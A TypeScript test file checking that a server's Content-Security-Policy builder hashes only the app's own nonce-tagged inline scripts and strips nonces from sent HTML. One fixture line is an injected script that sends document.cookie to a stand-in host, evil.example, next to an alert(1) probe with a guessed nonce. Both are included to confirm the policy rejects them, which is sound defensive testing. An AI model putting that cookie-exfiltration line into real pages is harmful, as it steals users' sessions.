import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { newScriptNonce, ownInlineScripts, pageCsp } from './page-csp.ts';

const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

describe('page Content-Security-Policy', () => {
  const nonce = newScriptNonce();
  const html = [
    `<script type="application/ld+json" nonce="${nonce}">{"@type":"WebSite"}</script>`,
    `<script nonce="${nonce}">window.a = 1;</script>`,
    `<script type="module" async="" nonce="${nonce}">import("/assets/x.js");</script>`,
    `<script src="/assets/entry.js" nonce="${nonce}"></script>`,
    `<script nonce="${nonce}">window.a = 1;</script>`,
    // Came in with content rendered on the server: not the app's, so never allowed.
    '<div><script>fetch("https://evil.example/?c=" + document.cookie)</script></div>',
    '<script nonce="guessed">alert(1)</script>',
  ].join('');

  it("hashes the app's own inline scripts that run, not data blocks, files or any other script", () => {
    expect(ownInlineScripts(html, nonce)).toEqual([
      'window.a = 1;',
      'import("/assets/x.js");',
      'window.a = 1;',
    ]);
    const { csp } = pageCsp(html, nonce);
    expect(csp).toContain(`script-src 'self' ${hash('window.a = 1;')} ${hash('import("/assets/x.js");')};`);
    expect(csp).not.toContain(hash('fetch("https://evil.example/?c=" + document.cookie)'));
    expect(csp).not.toContain(hash('alert(1)'));
    expect(csp).not.toMatch(/script-src[^;]*(unsafe-inline|nonce-)/);
    expect(csp).toContain("frame-ancestors 'none'");
  });

  it('takes the nonce out of the kept HTML and makes a new one per render', () => {
    const { html: sent } = pageCsp(html, nonce);
    expect(sent).not.toContain(nonce);
    expect(sent).toContain('<script>window.a = 1;</script>');
    expect(newScriptNonce()).not.toBe(nonce);
    expect(nonce).toMatch(/^[\w-]{24}$/);
  });

  it('a page without inline scripts allows only its own files', () => {
    expect(pageCsp('<p>x</p>', nonce).csp).toContain("script-src 'self';");
  });
});
